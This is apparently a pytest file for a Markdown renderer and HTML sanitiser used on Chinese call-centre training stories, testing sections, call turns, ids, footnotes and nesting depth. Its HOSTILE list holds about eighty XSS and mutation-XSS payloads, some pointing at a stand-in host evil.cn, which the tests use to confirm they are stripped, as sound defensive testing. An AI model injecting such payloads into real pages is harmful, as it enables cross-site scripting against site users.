"""Markdown → `Prose`: sections by their headings, what is cut from their lists, ids, line breaks, and what the
sanitiser lets through, judged by html5lib."""

import re
from collections.abc import Iterator
from xml.etree.ElementTree import Element

import html5lib
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from anthology.config import NESTING
from anthology.model import Block, Call, Card, Cards, Figure, Figures, Html, Kind, Pair, Pairs, Prose, Remark, Turn
from anthology.prose import SECTIONS, prose
from anthology.prose.sanitiser import sanitise
from tests import making


def blocks(body: str) -> tuple[Block, ...]:
    """The blocks of the only section of a body, which gives no hint."""
    made, hints = making.rendered(body)
    (section,) = made.sections
    assert hints == ()
    return section.blocks


def only(body: str) -> Block:
    (block,) = blocks(body)
    return block


def lead(body: str) -> str:
    return making.rendered(body)[0].lead


def turn(number: int, speaker: str, html: str, *remarks: Remark) -> Turn:
    """The turn of that number in the section 通话."""
    return Turn(f"通话.{number}", "turn", speaker, speaker in making.CUSTOMERS, html, remarks)


# Sections ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("names", "kind"),
    [
        ("人物 背景 起因", Kind.PEOPLE),
        ("经过 故事", Kind.EVENTS),
        ("通话 对话 现场", Kind.CALL),
        ("教训 启示 点评", Kind.LESSON),
        ("做对了什么", Kind.RIGHT),
        ("哪里做错了", Kind.WRONG),
        ("话术", Kind.PHRASES),
        ("流程", Kind.STEPS),
        ("口诀", Kind.RHYME),
        ("数字 关键数字", Kind.FIGURES),
        ("讨论题 课后思考", Kind.QUESTIONS),
        ("角色扮演", Kind.ROLES),
        ("讲师手册", Kind.TRAINER),
        ("尾声 通话录音 说说经过 不是话术", Kind.PLAIN),
    ],
)
def test_the_heading_gives_the_type(names: str, kind: Kind) -> None:
    for name in names.split():
        made, _ = making.rendered(f"## {name}\n\n正文。\n\n## {name}：第一次\n\n正文。\n")
        assert [section.kind for section in made.sections] == [kind, kind]
        assert (kind is Kind.PLAIN) == (name not in SECTIONS)


@pytest.mark.parametrize(
    ("heading", "label", "title"),
    [
        ("通话", "通话", ""),
        ("通话：第三次", "通话", "第三次"),
        ("通话: 第三次", "通话", "第三次"),
        ("通话：第三次：夜里", "通话", "第三次：夜里"),
        ("通话三", "通话三", ""),
        ("通话2：夜里", "通话2", "夜里"),
        ("**通话**：第三次", "通话", "第三次"),
        ("尾声：第三次", "", "尾声：第三次"),
    ],
)
def test_a_heading_is_a_label_and_a_title(heading: str, label: str, title: str) -> None:
    (section,) = making.rendered(f"## {heading}\n")[0].sections
    assert (section.label, section.title) == (label, title)
    assert section.heading == f"{label}：{title}".strip("：")


def test_a_traditional_heading_gives_the_type_too() -> None:
    assert [s.kind for s in making.rendered("## 經過\n\n## 討論題\n")[0].sections] == [Kind.EVENTS, Kind.QUESTIONS]


def test_what_stands_before_the_first_heading_is_the_lead() -> None:
    made, _ = making.rendered("引子。\n\n### 小\n\n## 经过\n\n### 大\n\n正文。\n")
    assert made.lead == '<p>引子。</p><h3 id="小">小</h3>'
    assert [s.blocks for s in made.sections] == [(Html('<h3 id="大">大</h3><p>正文。</p>'),)]


def test_the_characters_of_the_trainer_are_not_counted() -> None:
    made, _ = making.rendered("甲乙a1，。\n\n## 经过\n\n- **丙**\n\n## 讲师手册\n\n丁戊己\n")
    assert made.characters == len("甲乙经过丙")


def test_an_entity_in_a_heading_is_a_character() -> None:
    (section,) = making.rendered("## A&amp;B &lt;3 &copy;\n")[0].sections
    assert section.title == "A&B <3 ©"


# Calls ---------------------------------------------------------------------------------------------------------------


def test_a_call_is_cut_into_turns_asides_and_pauses() -> None:
    assert only("## 通话\n\n- ——铃响\n- 客户：你好\n- ？下一句\n- 坐席：**您**好\n") == Call(
        (
            Turn("通话.1", "aside", "", False, "铃响", ()),
            turn(2, "客户", "你好"),
            Turn("通话.3", "pause", "", False, "下一句", ()),
            turn(4, "坐席", "<strong>您</strong>好"),
        )
    )


@pytest.mark.parametrize(
    ("line", "speaker", "words"),
    [
        ("客户：你好", "客户", "你好"),
        ("客户: 你好", "客户", "你好"),
        ("**客户**：你好", "客户", "你好"),
        ("客戶：你好", "客户", "你好"),
        ("客户：他说：好", "客户", "他说：好"),
        ("坐席（新人）：你好", "坐席（新人）", "你好"),
        ("一二三四五六：你好", "一二三四五六", "你好"),
        ("一二三四五六七：你好", "", ""),
        ("他说，今天：你好", "", ""),
    ],
)
def test_a_speaker_is_up_to_six_characters_before_a_colon(line: str, speaker: str, words: str) -> None:
    made, hints = making.rendered(f"## 通话\n\n- {line}\n")
    (block,) = made.sections[0].blocks
    if speaker:
        assert (block, hints) == (Call((turn(1, speaker, words),)), ())
    else:
        assert isinstance(block, Html)
        assert [hint.code for hint in hints] == ["B001"]


@pytest.mark.parametrize("line", ["——走了", "—— 走了", "--走了", "—————走了"])
def test_an_aside_begins_with_a_dash(line: str) -> None:
    assert only(f"## 通话\n\n- {line}\n") == Call((Turn("通话.1", "aside", "", False, "走了", ()),))


@pytest.mark.parametrize("line", ["？走不走", "?走不走", "？ 走不走"])
def test_a_pause_begins_with_a_question_mark(line: str) -> None:
    assert only(f"## 通话\n\n- {line}\n") == Call((Turn("通话.1", "pause", "", False, "走不走", ()),))


@pytest.mark.parametrize(
    ("end", "remarks"),
    [
        ("{✗ 拱火}", [Remark(False, "拱火")]),
        ("{✓ 先致歉}", [Remark(True, "先致歉")]),
        ("{ × 拱火 }", [Remark(False, "拱火")]),
        ("｛√先致歉｝", [Remark(True, "先致歉")]),
        ("{❌ 甲} {✅ 乙}", [Remark(False, "甲"), Remark(True, "乙")]),
        ("{✗}", [Remark(False, "")]),
    ],
)
def test_remarks_stand_at_the_end_of_a_turn(end: str, remarks: list[Remark]) -> None:
    assert only(f"## 通话\n\n- 坐席：您`小`点声。{end}\n") == Call(
        (turn(1, "坐席", "您<code>小</code>点声。", *remarks),)
    )


@pytest.mark.parametrize("words", ["{拱火}", "{✗ 拱火}，他说", "`{✗ 拱火}`"])
def test_what_is_no_remark_stays_in_the_words(words: str) -> None:
    block = only(f"## 通话\n\n- 坐席：好{words}\n")
    assert isinstance(block, Call)
    assert block.turns[0].remarks == ()
    assert re.sub("</?code>", "`", block.turns[0].html) == f"好{words}"


@pytest.mark.parametrize("words", ["A&lt;B", "<b>拱火</b>"])
def test_a_remark_with_an_entity_or_a_tag_shows_no_placeholder(words: str) -> None:
    block = only(f"## 通话\n\n- 坐席：好 {{✗ {words}}}\n")
    assert isinstance(block, Call)
    assert not re.search("[\x00-\x1f]", "".join(remark.words for remark in block.turns[0].remarks))


def test_a_call_may_have_a_footnote() -> None:
    assert isinstance(only("## 通话\n\n- 客户：你好[^1]\n\n[^1]: 第三次来电。\n"), Call)


def test_what_stands_between_lists_stays() -> None:
    assert [block.kind for block in blocks("## 通话\n\n先\n\n- 客户：你好\n\n后\n")] == ["html", "call", "html"]


@pytest.mark.parametrize(
    ("body", "item"),
    [
        ("## 通话\n\n- 客户：你好\n- 没有人说\n", "没有人说"),
        ("## 话术\n\n- ✓ 先说好的\n", "✓ 先说好的"),
        ("## 话术\n\n- ✗ 甲\n- 因为：乙\n- 因为：丙\n", "因为：丙"),
        ("## 角色扮演\n\n- 客户：急\n- 不急的人\n", "不急的人"),
    ],
)
def test_a_list_of_another_form_stays_a_list_with_a_hint(body: str, item: str) -> None:
    made, hints = making.rendered(body)
    (block,) = made.sections[0].blocks
    assert isinstance(block, Html)
    assert block.html.startswith("<ul><li>")
    assert f"{item}</li>" in block.html
    line = body[: body.index(f"- {item}")].count("\n") + 6
    assert [(hint.code, str(hint.place)) for hint in hints] == [("B001", f"stories/a.md:{line}:3")]
    assert f"“{item}”" in hints[0].message


def test_every_item_that_does_not_fit_is_told_at_its_place() -> None:
    _, hints = making.rendered("## 通话\n\n客户：急\n他说**急**\n\n- 客户：急\n- 又说：\n- 没有人\n  说\n")
    assert [(hint.code, hint.place.line) for hint in hints] == [("B001", 13)]


def test_what_belongs_to_an_item_that_does_not_fit_is_no_second_hint() -> None:
    _, hints = making.rendered("## 话术\n\n- 先别急\n- ✓ 我来查\n- 因为：要行动\n- ✗ 甲\n- 乙\n")
    assert [hint.place.line for hint in hints] == [8, 12]


# Pairs, cards, figures -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("avoid", ["✗ ", "✗", "× ", "❌ ", "✗：", "别说：", "别说: "])
@pytest.mark.parametrize("say", ["✓ ", "✓", "√ ", "✅ ", "✓: ", "要说：", "要说:"])
@pytest.mark.parametrize("why", ["因为：", "因为: "])
def test_a_pair_is_what_not_to_say_what_to_say_and_why(avoid: str, say: str, why: str) -> None:
    assert only(f"## 话术\n\n- {avoid}甲\n- {say}*乙*\n- {why}丙\n") == Pairs(
        (Pair("话术.1", "甲", ("<em>乙</em>",), "丙"),), ""
    )


def test_every_cross_begins_a_pair() -> None:
    assert only("## 话术\n\n- ✗ 甲\n- ✗ 乙\n- ✓ 丙\n- ✓ 丁\n- ✗ 戊\n- 因为：己\n") == Pairs(
        (
            Pair("话术.1", "甲", (), ""),
            Pair("话术.2", "乙", ("丙", "丁"), ""),
            Pair("话术.3", "戊", (), "己"),
        ),
        "",
    )


def test_a_loose_list_is_read_like_a_tight_one() -> None:
    assert only("## 话术\n\n- ✗ 甲\n\n- ✓ 乙\n\n- 因为：丙\n") == Pairs((Pair("话术.1", "甲", ("乙",), "丙"),), "")


def test_roles_are_cards() -> None:
    assert only("## 角色扮演\n\n- 客户：**急**\n- 坐席: 稳\n") == Cards(
        (Card("客户", "<strong>急</strong>"), Card("坐席", "稳"))
    )


def test_a_definition_list_of_figures() -> None:
    assert only("## 数字\n\n3\n:   次\n\n**4**\n:   回\n:   在夜里\n") == Figures(
        (Figure("3", "次"), Figure("<strong>4</strong>", "回在夜里"))
    )


@pytest.mark.parametrize("kind", ["流程", "口诀", "讨论题", "经过"])
def test_other_sections_are_ordinary_lists(kind: str) -> None:
    assert only(f"## {kind}\n\n1. 客户：甲\n2. ✗ 乙\n") == Html("<ol><li>客户：甲</li><li>✗ 乙</li></ol>")


# What an input method types (design §6) ------------------------------------------------------------------------------

CALL = Call((turn(1, "客户", "甲"), turn(2, "坐席", "乙")))


@pytest.mark.parametrize(
    "body",
    [
        "## 通话\n- 客户：甲\n- 坐席：乙\n",
        "##通话\n\n* 客户:甲\n* 坐席:乙\n",
        "＃＃ 通话\n\n－ 客户：甲\n－ 坐席：乙\n",
        "##　通话\n\n－　客户：甲\n－　坐席：乙\n",
        "## 通话\n\n1、客户：甲\n2、坐席：乙\n",
        "## 通话\n\n１．客户：甲\n２．坐席：乙\n",
        "## 通话\n\n客户：甲\n坐席：乙\n",
        "## 通话\n\n　　客户：甲\n　　坐席：乙\n",
        "## 通話\n\n- 客戶：甲\n- 坐席：乙\n",
        "## 通话：\n\n- 客户：甲\n\n- 坐席：乙\n",
    ],
)
def test_what_an_input_method_types_is_understood(body: str) -> None:
    assert only(body) == CALL


@pytest.mark.parametrize(
    ("body", "html"),
    [
        ("他说：\n- 甲\n- 乙\n", "<p>他说：</p><ul><li>甲</li><li>乙</li></ul>"),
        ("他说：\n1、甲\n2、乙\n", "<p>他说：</p><ol><li>甲</li><li>乙</li></ol>"),
        ("- 甲\n  - 乙\n", "<ul><li>甲<ul><li>乙</li></ul></li></ul>"),
        ("1. 甲\n   - 乙\n", "<ol><li>甲<ul><li>乙</li></ul></li></ol>"),
        ("見［下文］（b.md）。", '<p>见<a href="b.md">下文</a>。</p>'),
        ("（括号）和［方括号］不动", "<p>（括号）和［方括号］不动</p>"),
        ("　　段首空格\n", "<p>段首空格</p>"),
    ],
)
def test_lists_and_links_from_an_input_method(body: str, html: str) -> None:
    assert lead(body) == html


# Line breaks ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "html"),
    [
        ("甲\n乙", "甲乙"),
        ("甲，\n乙", "甲，乙"),
        ("甲\n“乙”", "甲“乙”"),
        ("甲。\nabc", "甲。abc"),
        ("**甲**\n乙", "<strong>甲</strong>乙"),
        ("甲\n**乙**", "甲<strong>乙</strong>"),
        ("**甲\n乙**", "<strong>甲乙</strong>"),
        ("*甲*\n**乙**", "<em>甲</em><strong>乙</strong>"),
        ("甲\n[乙](https://a.cn)", '甲<a href="https://a.cn">乙</a>'),
        ("甲\n<b>乙</b>", "甲<b>乙</b>"),
        ("abc\ndef", "abc\ndef"),
        ("甲\nabc", "甲\nabc"),
        ("abc\n甲", "abc\n甲"),
        ("甲 **b**\nc", "甲 <strong>b</strong>\nc"),
        ("`甲\n乙`", "<code>甲\n乙</code>"),
        ("甲  \n乙", "甲<br>乙"),
    ],
)
def test_soft_line_breaks_between_han_are_closed(body: str, html: str) -> None:
    assert re.sub(r"<br>\s*", "<br>", lead(body)) == f"<p>{html}</p>"


def test_soft_line_breaks_in_quotes_are_closed_and_code_is_not() -> None:
    assert lead("> 甲\n> 乙\n\n```\n甲\n乙\n```\n") == (
        "<blockquote><p>甲乙</p></blockquote><pre><code>甲\n乙\n</code></pre>"
    )


@pytest.mark.parametrize("body", ["- 甲\n  乙\n", "1. 甲\n   乙\n"])
def test_soft_line_breaks_in_an_indented_item_are_closed(body: str) -> None:
    made, _ = making.rendered(body)
    assert "\n" not in made.lead


# Ids -----------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("headings", "ids"),
    [
        (["经过", "通话：第三次"], ["经过", "通话第三次"]),
        (["经过", "经过", "经过"], ["经过", "经过-2", "经过-3"]),
        (["经过-2", "经过", "经过"], ["经过-2", "经过", "经过-3"]),
        (["经过 {#a}", "教训 { #b }", "{#c}"], ["a", "b", "c"]),
        (["经过 {#a}", "a"], ["a", "a-2"]),
        (["經過"], ["经过"]),
        (["後記 {#後記}"], ["後記"]),
        (
            ["Main", "themes", "related", "origin", "contents"],
            ["main-2", "themes-2", "related-2", "origin-2", "contents-2"],
        ),
        (["经过 {#main}"], ["main-2"]),
        (["……", "经过", "？！"], ["第1节", "经过", "第3节"]),
        (["**经过** `a`"], ["经过-a"]),
        (['经过 {#a"onclick=b}'], ["经过-aonclickb"]),
    ],
)
def test_a_heading_has_an_id_of_its_own_words(headings: list[str], ids: list[str]) -> None:
    made, _ = making.rendered("".join(f"## {heading}\n\n正文。\n\n" for heading in headings))
    assert [section.id for section in made.sections] == ids
    assert set(ids) <= made.anchors


def test_headings_of_all_levels_share_the_ids() -> None:
    made, _ = making.rendered("### 经过\n\n## 经过\n\n> ### 经过\n")
    assert made.lead == '<h3 id="经过">经过</h3>'
    assert made.sections[0].id == "经过-2"
    assert made.sections[0].blocks == (Html('<blockquote><h3 id="经过-3">经过</h3></blockquote>'),)


@pytest.mark.parametrize("heading", ["fn-1", "经过 {#fn-1}", "fnref-1"])
def test_a_heading_takes_no_id_of_a_footnote(heading: str) -> None:
    made, _ = making.rendered(f"甲[^1]\n\n[^1]: 注\n\n## {heading}\n")
    assert f'id="{made.sections[0].id}"' not in made.lead + made.footnotes


def test_an_explicit_id_is_not_shown() -> None:
    (section,) = making.rendered("## 经过 {#a}\n")[0].sections
    assert (section.label, section.title) == ("经过", "")


# Footnotes -----------------------------------------------------------------------------------------------------------


def test_footnotes_stand_at_the_end_and_lead_back() -> None:
    made, _ = making.rendered("甲[^一]乙[^一]\n\n[^一]: *注*\n\n## 经过\n\n丙[^b]\n\n[^b]: 又注\n")
    found = [made.lead, *(block.html for block in made.sections[0].blocks if isinstance(block, Html)), made.footnotes]
    text = "".join(found)
    assert made.footnotes.startswith('<div class="footnote">')
    assert "<em>注</em>" in made.footnotes
    ids, targets = set(re.findall('id="([^"]+)"', text)), set(re.findall('href="#([^"]+)"', text))
    assert ids == targets == {"fn-一", "fnref-一", "fnref2-一", "fn-b", "fnref-b"}
    assert ids <= made.anchors


@pytest.mark.parametrize(
    "body",
    [
        "## 话术\n\n- ✗ 甲[^1]\n- ✓ 乙\n\n[^1]: 注\n",
        "## 角色扮演\n\n- 客户：甲[^1]\n\n[^1]: 注\n",
        "## 数字\n\n3[^1]\n:   次\n\n[^1]: 注\n",
    ],
)
def test_a_footnote_leads_back_to_where_it_was_cut_out(body: str) -> None:
    made, _ = making.rendered(body)
    assert 'id="fnref-1"' in "".join(pieces(made))


def test_a_footnote_of_the_trainers_is_not_for_readers() -> None:
    made, _ = making.rendered("甲\n\n## 讲师手册\n\n乙[^1]\n\n[^1]: 答案\n")
    assert "答案" not in made.footnotes


# The sanitiser -------------------------------------------------------------------------------------------------------

ELEMENTS = set(
    """
    a abbr b blockquote br caption cite code dd del details dfn div dl dt em figcaption figure h2 h3 h4 h5 h6 hr i img
    ins kbd li mark ol p pre q rp rt ruby s samp small span strong sub summary sup table tbody td th thead time tr u ul
    """.split()  # noqa: SIM905 - eighty short words read better in a block
)
"""What a story may use; written out here once more, so that a wider list shows."""
EVERYWHERE = {"class", "dir", "id", "lang", "title"}
ATTRIBUTES = {
    "a": {"href"},
    "details": {"open"},
    "img": {"src", "alt", "width", "height"},
    "ol": {"start"},
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan", "scope"},
    "time": {"datetime"},
}
CLASSES = {"footnote", "footnote-ref", "footnote-backref", "left", "center", "right"}
SCHEMES = {"http", "https", "mailto", "tel"}
CONTROLS = "".join(map(chr, range(33)))
"""What a browser takes off the ends of an address; tabs and line ends it drops everywhere."""


def pieces(made: Prose) -> Iterator[str]:
    """Every piece of HTML of a story."""
    yield from (made.lead, made.footnotes)
    for block in (block for section in made.sections for block in section.blocks):
        match block:
            case Html():
                yield block.html
            case Call():
                yield from (turn.html for turn in block.turns)
            case Pairs():
                yield from (words for pair in block.pairs for words in (pair.avoid, *pair.say, pair.why))
            case Cards():
                yield from (card.html for card in block.cards)
            case Figures():
                yield from (words for figure in block.figures for words in (figure.value, figure.html))


def forbidden(html: str, ids: frozenset[str]) -> list[str]:
    """What of a piece of HTML, as a browser reads it, goes beyond what a story may use."""
    tree = html5lib.HTMLParser(namespaceHTMLElements=False).parseFragment(html)
    return [fault for element in tree.iter() if element is not tree for fault in _faults(element, ids)]


def _faults(element: Element, ids: frozenset[str]) -> Iterator[str]:
    if not isinstance(element.tag, str):
        yield "comment"
        return
    if element.tag not in ELEMENTS:
        yield f"<{element.tag}>"
    for name, value in element.attrib.items():
        if name not in EVERYWHERE | ATTRIBUTES.get(element.tag, set()):
            yield f"{element.tag} {name}"
        if name == "id" and value not in ids:
            yield f"id {value}"
        if name == "class" and not set(value.split()) <= CLASSES:
            yield f"class {value}"
        if name in ("href", "src"):
            yield from _of_address(name, re.sub(r"[\t\n\r]", "", value).strip(CONTROLS).replace("\\", "/"))


def _of_address(name: str, value: str) -> Iterator[str]:
    scheme = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", value)
    if value.startswith("//"):
        yield f"another host: {value}"
    if scheme and (name == "src" or scheme.group(1).lower() not in SCHEMES):
        yield f"scheme: {value}"


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.cn/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script",
    "<script/src=data:,alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<img src="x" ONERROR="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    '<img src="x"onerror="alert(1)">',
    "<p onclick='alert(1)' onmouseover=alert(1)>甲</p>",
    "<details open ontoggle=alert(1)><summary>甲</summary></details>",
    "<b style='position:fixed;inset:0'>甲</b>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.cn/x.css>",
    "[甲](javascript:alert(1))",
    "[甲](JaVaScRiPt:alert(1))",
    "[甲](&#106;avascript:alert(1))",
    "[甲](&#x6A;avascript&colon;alert(1))",
    "[甲](java&#10;script:alert(1))",
    "[甲](<java\tscript:alert(1)>)",
    "[甲](%6Aavascript:alert(1))",
    "[甲][乙]\n\n[乙]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<a href='javascript:alert(1)'>甲</a>",
    "<a href=' &#11;javascript:alert(1)'>甲</a>",
    "<a href='java\tscript:alert(1)'>甲</a>",
    "<a href='java&#9;script:alert(1)'>甲</a>",
    "<a href='java&NewLine;script:alert(1)'>甲</a>",
    "<a href='&#14;javascript:alert(1)'>甲</a>",
    "<a href=vbscript:x>甲</a>",
    "[甲](data:text/html,<script>alert(1)</script>)",
    "![甲](data:image/svg+xml;base64,PHN2Zz4=)",
    "![甲](https://evil.cn/pixel.png)",
    "![甲](//evil.cn/pixel.png)",
    "![甲](javascript:alert(1))",
    "[甲](//evil.cn)",
    "<a href='//evil.cn'>甲</a>",
    "<a href='\\\\evil.cn'>甲</a>",
    "<a href='/\\evil.cn'>甲</a>",
    "<a href=x ping=//evil.cn target=_blank download>甲</a>",
    "<img src=x srcset='//evil.cn/x 2x' longdesc=//evil.cn>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>甲</text></a></svg>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe src=//evil.cn></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=//evil.cn></object><embed src=//evil.cn>",
    "<form action=//evil.cn><input name=a autofocus onfocus=alert(1)><button formaction=//evil.cn>甲</button></form>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<select><option><script>alert(1)</script></select>",
    "<base href=//evil.cn/>",
    "<meta http-equiv=refresh content='0;url=//evil.cn'>",
    "<html onload=alert(1)><body onload=alert(1)><head><title>甲</title>",
    "<video src=//evil.cn onerror=alert(1)><source src=//evil.cn></video><audio src=//evil.cn>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<plaintext>甲",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<div id=main class='skip story top'>甲</div>",
    "<h2 id=themes class=label>甲</h2><span id=contents name=related>乙</span>",
    "<ol class=call><li data-speaker=客户 role=alert aria-label=乙 tabindex=1>甲</li></ol>",
    "## 甲 {#x onclick=alert(1)}",
    '## 甲 {#x"><img/src=x/onerror=alert(1)>}',
    "`甲`{onclick=alert(1)}",
    "<p title='\"><script>alert(1)</script>'>甲</p>",
    '![甲" onerror="alert(1)](x.png)',
    '![甲](x.png "乙" onerror="alert(1)")',
    '[甲](<x" onclick="alert(1)>)',
    "<table><td><a href=x>甲<table><a href=javascript:alert(1)>乙",
    "<b><p><i></b></p></i><a><a></div></div></section></main></body>",
    "<p><svg><p></svg><math><p></math>",
    "<custom-element onclick=alert(1)>甲</custom-element><font color=red>乙</font><center>丙</center>",
    "<a href=x><b <script>alert(1)</script>>甲</a>",
    "\u212a<\u017fcript>alert(1)</\u017fcript>",
    "<\uff53cript>alert(1)</\uff53cript>",
]


@pytest.mark.parametrize("snippet", [*HOSTILE, "<a href='/&#9;/evil.cn'>甲</a>"])
def test_nothing_but_what_is_allowed_survives(snippet: str) -> None:
    for before in ("", "## 通话\n\n- 客户：", "## 话术\n\n- ✗ ", "## 数字\n\n3\n:   "):
        made, _ = prose(making.clean(making.file(body=f"前\n\n{before}{snippet}\n")), making.CUSTOMERS)
        assert made is not None
        for piece in pieces(made):
            assert not forbidden(piece, made.anchors), piece
        assert "<p>前" in made.lead
    assert not forbidden(sanitise(snippet, frozenset()), frozenset())


@pytest.mark.parametrize(
    ("html", "fault"),
    [
        ("<script>甲</script>", "<script>"),
        ("<iframe></iframe>", "<iframe>"),
        ("<p onclick=甲>", "p onclick"),
        ("<p id=main>", "id main"),
        ("<p class='left story'>", "class left story"),
        ("<!-- 甲 -->", "comment"),
        ("<a href='java&#9;script:甲'>", "scheme: javascript:甲"),
        ("<img src=https://a.cn>", "scheme: https://a.cn"),
        ("<a href='/&#9;\\\\a.cn'>", "another host: ///a.cn"),
    ],
)
def test_the_oracle_sees_what_is_forbidden(html: str, fault: str) -> None:
    assert forbidden(html, frozenset()) == [fault]


TAGS = sorted(
    {*ELEMENTS, "svg", "math", "style", "script", "title", "template", "select", "form", "mtext", "mglyph", "desc"}
)
FRAGMENTS = st.one_of(
    st.sampled_from(HOSTILE),
    st.sampled_from(
        ["甲", " ", "\n", "\n\n", "`", "**", ">", "<", "&", '"', "'", "&lt;", "-->", "]]>", "[", "](", ")", "|"]
    ),
    st.sampled_from(TAGS).flatmap(
        lambda tag: st.sampled_from([f"<{tag}>", f"</{tag}>", f"<{tag}/>", f'<{tag} id="x" title="<p>">'])
    ),
    st.text("客户来电說著，。“”：（）<>&\"'=/-![]`*_{}#|\\ \n\t", max_size=6),
    st.sampled_from(
        ["\n- ", "\n    ", "\n> ", "\n## 通话\n\n- 客户：", "\n## 话术\n\n- ✗ ", "\n|甲|\n|:-|\n|", "[^1]\n\n[^1]: "]
    ),
)


@given(st.lists(FRAGMENTS, max_size=8).map("".join))
@example("<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>")
def test_nothing_but_what_is_allowed_survives_in_any_mixture(body: str) -> None:
    made, _ = prose(making.clean(making.file(body=f"前\n\n{body}\n\n后\n")), making.CUSTOMERS)
    if made is not None:
        for piece in pieces(made):
            assert not forbidden(piece, made.anchors), piece


@pytest.mark.parametrize(
    "snippet",
    [
        *(
            f"<{tag}>甲"
            for tag in ("script", "style", "iframe", "svg", "math", "form", "base", "font", "xmp", "custom-a")
        ),
        "<p onclick=x>甲</p>",
        "<p/onclick=x>甲</p>",
        "<p title='a'onclick=x>甲</p>",
        "<a href=javascript:x>甲</a>",
        "<a href='&#x6a;avascript&colon;x'>甲</a>",
        "<a href='java\tscript:x'>甲</a>",
        "<a href=//evil.cn>甲</a>",
        "<img src='https://evil.cn/a.png'>",
        "<img src=x srcset=y>",
        "<object data=//evil.cn/甲 </q>",
        "<javascript:x>",
        "<?php 甲 ?>",
        "甲<?php 乙 ?>",
        "<!DOCTYPE html>",
        "<![CDATA[甲]]>",
        "<!--><b>甲</b>-->",
        "<!-- --!><b>甲</b> -->",
        "```{.js onclick=x}\n甲\n```",
    ],
)
def test_what_is_dropped_is_told_where_it_stands(snippet: str) -> None:
    _, problems = making.rendered(f"前\n\n{snippet}\n")
    assert ("B005", 8) in [(p.code, p.place.line) for p in problems]


@pytest.mark.parametrize(
    "snippet",
    [
        "<b>甲</b>",
        "<!-- 甲 --> 乙",
        "<!-- 甲\n乙 -->",
        "<https://a.cn/>",
        "<a@b.cn>",
        '<a href="https://a.cn/">甲</a>',
        '<p title="甲<乙">丙</p>',
        "3 < 4，5 > 2",
        "`<script>`",
        "```python\nx = {1: 2}\n```",
        "## 甲 {#乙}",
        "甲{✗ 乙}和{丙}和 {#丁}",
        "{{ 7*7 }}",
    ],
)
def test_what_is_shown_is_not_told(snippet: str) -> None:
    _, problems = making.rendered(f"前\n\n{snippet}\n")
    assert not [p.code for p in problems]


@given(st.lists(FRAGMENTS, max_size=8).map("".join))
def test_sanitising_is_done_after_once(html: str) -> None:
    once = sanitise(html, frozenset({"x"}))
    assert sanitise(once, frozenset({"x"})) == once
    assert [element.get("id") for element in html5lib.parseFragment(once).iter()].count("x") <= 1


def test_what_is_allowed_survives() -> None:
    kept = [f"<{tag}>甲</{tag}>" for tag in ("b", "kbd", "mark", "q", "small", "u", "ruby", "time", "details", "h3")]
    kept += ['<a href="https://a.cn/?x=1&amp;y=2">甲</a>', '<a href="tel:10086">甲</a>', '<a href="b.md#乙">甲</a>']
    kept += ['<img src="a.png" alt="甲" width="3" height="4">', '<span lang="ja" title="甲" dir="rtl">甲</span>']
    kept += [
        '<table><tbody><tr><td colspan="2" class="right">甲</td></tr></tbody></table>',
        '<ol start="3"><li>甲</li></ol>',
    ]
    for html in kept:
        assert sanitise(html, frozenset()) == html


def test_an_id_of_the_piece_itself_is_kept_once() -> None:
    assert sanitise('<h3 id="a">甲</h3><p id="a">乙</p><p id="b">丙</p>', frozenset("a")) == (
        '<h3 id="a">甲</h3><p>乙</p><p>丙</p>'
    )


@pytest.mark.parametrize(
    ("body", "around"),
    [
        ("## 通话\n\n- 客户：甲<li>乙\n", '<ol><li><div class="words">{}</div></li></ol>'),
        ("## 角色扮演\n\n- 客户：甲<dt>乙\n", "<dl><div><dt>客户</dt><dd>{}</dd></div></dl>"),
        ("## 数字\n\n3\n:   甲<dd>乙\n", "<dl><div><dt>3</dt><dd>{}</dd></div></dl>"),
    ],
)
def test_a_piece_does_not_end_the_element_around_it(body: str, around: str) -> None:
    made, _ = making.rendered(body)
    parser = html5lib.HTMLParser()
    parser.parseFragment(around.format("".join(pieces(made))))
    assert not parser.errors


# Depth ---------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        "> " * 2_000 + "甲",
        "<div>" * 2_000 + "甲",
        "<div>甲" * 150 + "</div>" * 150,
        "\n".join("    " * level + "- 甲" for level in range(150)),
        "<b><i>" * 1_000 + "甲",
    ],
)
def test_nesting_too_deep_is_a_problem_and_no_crash(body: str) -> None:
    made, problems = prose(making.clean(making.file(body=f"前\n\n{body}\n")), making.CUSTOMERS)
    assert made is None
    assert [(p.code, str(p.place)) for p in problems] == [("B003", "stories/a.md:6:1")]


@pytest.mark.parametrize("body", ["> " * 40 + "甲", "<div>" * 60 + "甲" + "</div>" * 60, "**" * 500 + "[" * 500 + "甲"])
def test_deep_but_not_too_deep_is_rendered(body: str) -> None:
    assert "甲" in lead(body)


